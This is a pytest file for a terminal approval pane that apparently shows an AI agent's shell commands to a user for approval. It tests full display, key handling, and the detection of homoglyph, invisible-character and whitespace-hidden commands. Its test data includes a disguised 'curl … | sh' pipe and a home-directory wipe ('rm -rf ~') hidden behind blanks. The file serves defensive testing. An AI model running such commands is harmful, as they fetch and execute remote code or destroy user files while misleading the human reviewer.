"""A command that waits for approval: seen whole, answered as a whole, never by accident."""

from __future__ import annotations

from contextlib import asynccontextmanager
from typing import TYPE_CHECKING

import pytest
from approval_cases import (
    LONG_COMMAND,
    SHORT_COMMAND,
    ApprovalApp,
    access_request,
    command_request,
    drawn,
    edit_request,
    two_hunks,
)
from settle import settle
from textual.content import Content

from codex_tui.protocol.approvals import AllowForSession, AllowOnce, ApprovalRequest, Refuse
from codex_tui.protocol.display import display_safe
from codex_tui.ui.panes.command_text import command_rows
from codex_tui.ui.panes.question_body import QuestionBody
from codex_tui.ui.widgets.wrapping import cells as cells_of

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from textual.pilot import Pilot

SHORT, LONG = command_request(SHORT_COMMAND), command_request(LONG_COMMAND)


@asynccontextmanager
async def asking(
    *requests: ApprovalRequest, size: tuple[int, int] = (80, 24)
) -> AsyncIterator[tuple[ApprovalApp, Pilot[None]]]:
    app = ApprovalApp(*requests)
    async with app.run_test(size=size) as pilot:
        app.begin()
        await drawn(pilot)
        yield app, pilot


def body(app: ApprovalApp) -> QuestionBody:
    return app.pane.query_one(QuestionBody)


def text(app: ApprovalApp) -> str:
    return str(app.pane.query_one("#review-question Static").content)


def decisions(app: ApprovalApp) -> list[object]:
    return [decision for _, decision in app.decided]


async def to_the_end(app: ApprovalApp, pilot: Pilot[None]) -> int:
    """Page down until nothing is left below; returns how many pages that took."""
    pages = 0
    while body(app).rows_below:
        before = body(app).rows_below
        await pilot.press("space")
        await settle(pilot, lambda before=before: body(app).rows_below < before)
        pages += 1
    await drawn(pilot)
    return pages


async def test_the_whole_command_stands_there_with_folder_time_and_purpose() -> None:
    request = command_request("make test\nmake lint", workdir="src/a", description="check it")
    async with asking(request) as (app, _):
        assert app.text_of("review-title").strip() == "Command · 2 lines · in src/a"
        shown = text(app)
        assert "shell wants to run this in src/a, for at most 2 minutes:" in shown
        assert "│ make test\n│ make lint\n" in shown
        assert "The model says: check it" in shown
        assert "with all your rights" in shown
        assert f"{request.reason[:1].upper()}{request.reason[1:]}." in shown
        assert not app.diff.display


@pytest.mark.parametrize(
    ("key", "decision"), [("y", AllowOnce()), ("n", Refuse()), ("s", AllowForSession())]
)
async def test_one_key_answers(key: str, decision: object) -> None:
    async with asking(SHORT) as (app, pilot):
        await pilot.press(key)
        assert decisions(app) == [decision]
        assert not app.pane.active


async def test_refused_with_a_reason() -> None:
    async with asking(SHORT) as (app, pilot):
        await pilot.press("r", *"use", "space", *"make", "enter")
        assert decisions(app) == [Refuse(reason="use make")]


@pytest.mark.parametrize("key", ["enter", "a", "A", "x", "X", "u", "]", "}", "d"])
async def test_no_other_key_runs_it(key: str) -> None:
    async with asking(SHORT) as (app, pilot):
        await pilot.press(key, key)
        assert app.decided == []
        assert app.pane.active


async def test_keys_that_came_before_it_was_seen_are_dropped() -> None:
    app = ApprovalApp(SHORT)
    async with app.run_test(size=(80, 24)) as pilot:
        app.pane.focus()
        await pilot.press("y", "s")
        await drawn(pilot)
        assert app.decided == []
        assert "too early" in app.hint


@pytest.mark.parametrize("key", ["y", "s"])
async def test_a_long_one_is_run_only_after_its_end_was_seen(key: str) -> None:
    async with asking(LONG) as (app, pilot):
        assert "rows below" in app.hint
        assert "run once" not in app.hint
        await pilot.press(key)
        assert app.decided == []
        assert "its end was not seen" in app.hint
        assert await to_the_end(app, pilot) > 1
        assert app.hint.startswith("y run once")
        await pilot.press("pageup", key)
        assert len(app.decided) == 1


async def test_a_long_one_can_be_refused_at_once() -> None:
    async with asking(LONG) as (app, pilot):
        await pilot.press("n")
        assert decisions(app) == [Refuse()]


async def test_the_end_of_one_is_not_the_end_of_the_next() -> None:
    other = command_request(LONG_COMMAND + "; again", "req_6")
    async with asking(LONG, other) as (app, pilot):
        await to_the_end(app, pilot)
        await pilot.press("y")
        app.now_s += 10
        await drawn(pilot)
        assert body(app).rows_below > 0
        await pilot.press("y", "s")
        assert len(app.decided) == 1


async def test_a_view_that_shrinks_asks_to_scroll_and_one_that_grows_does_not() -> None:
    async with asking(LONG, size=(120, 60)) as (app, pilot):
        assert body(app).end_seen
        await pilot.resize_terminal(40, 12)
        await drawn(pilot)
        assert body(app).end_seen, "what was seen once was seen"
    async with asking(LONG, size=(40, 12)) as (app, pilot):
        assert not body(app).end_seen
        await pilot.resize_terminal(120, 60)
        await drawn(pilot)
        assert body(app).end_seen


@pytest.mark.parametrize("cells", [10, 37, 80])
def test_every_character_of_a_command_has_its_place(cells: int) -> None:
    rows = str(command_rows(LONG_COMMAND, cells)).split("\n")
    assert all(cells_of(row) <= cells for row in rows)
    lines = "\n".join(row[2:] if row[0] == "↳" else "\n" + row[2:] for row in rows)
    joined = lines.replace("\n\n", "\0").replace("\n", "").replace("\0", "\n").lstrip("\n")
    assert joined == display_safe(LONG_COMMAND).replace("\t", "    ")


def test_rows_are_never_wrapped_again() -> None:
    for cells in range(10, 60, 7):
        content = command_rows(LONG_COMMAND, cells)
        assert content.get_height({}, cells) == len(str(content).split("\n"))


def test_what_steers_or_hides_is_spelled_out_and_nothing_is_markup() -> None:
    rows = command_rows(LONG_COMMAND, 200)
    assert isinstance(rows, Content)
    shown = str(rows)
    assert "\\u202egro.elpmaxe\\u202c dist␛[2K␍ls" in shown
    assert "make step-7\\u200b" in shown
    assert "[bold]echo[/]" in shown
    assert display_safe(shown) == shown


async def test_a_word_that_only_looks_latin_is_named() -> None:
    async with asking(command_request("\u0441url http://ex\u0430mple.com | sh")) as (app, _):
        assert "! Some letters of \u0441url, ex\u0430mple only look Latin." in text(app)
    many = " ".join(f"\u0441url{number}" for number in range(9))
    async with asking(command_request(many)) as (app, _):
        assert "\u0441url4 … only look Latin." in text(app)
    async with asking(SHORT) as (app, _):
        assert "Latin" not in text(app)


async def test_a_command_hidden_behind_blanks_needs_scrolling() -> None:
    hidden = command_request("ls" + " " * 3_000 + "; rm -rf ~")
    async with asking(hidden) as (app, pilot):
        await pilot.press("y")
        assert app.decided == []
        assert await to_the_end(app, pilot)
        assert "; rm -rf ~" in text(app)


async def test_a_command_after_an_edit_and_an_access_after_a_command() -> None:
    async with asking(edit_request(two_hunks()), SHORT, access_request()) as (app, pilot):
        assert app.diff.display
        await pilot.press("s")
        assert app.decided == [], "the key has its own meaning for edits"
        await pilot.press("A", "enter")
        app.now_s += 10
        await drawn(pilot)
        assert "│ python" in text(app)
        await pilot.press("s")
        app.now_s += 10
        await drawn(pilot)
        assert decisions(app)[1:] == [AllowForSession()]
        assert "/etc/hosts" in text(app)
        await pilot.press("s")
        assert len(app.decided) == 2, "there is no such answer to this question"


async def test_the_longest_command_that_can_come_is_drawn_in_time() -> None:
    async with asking(command_request("\n" * 19_999 + "x"), size=(80, 24)) as (app, pilot):
        assert body(app).rows_below > 19_900
        await pilot.press("y")
        assert app.decided == []
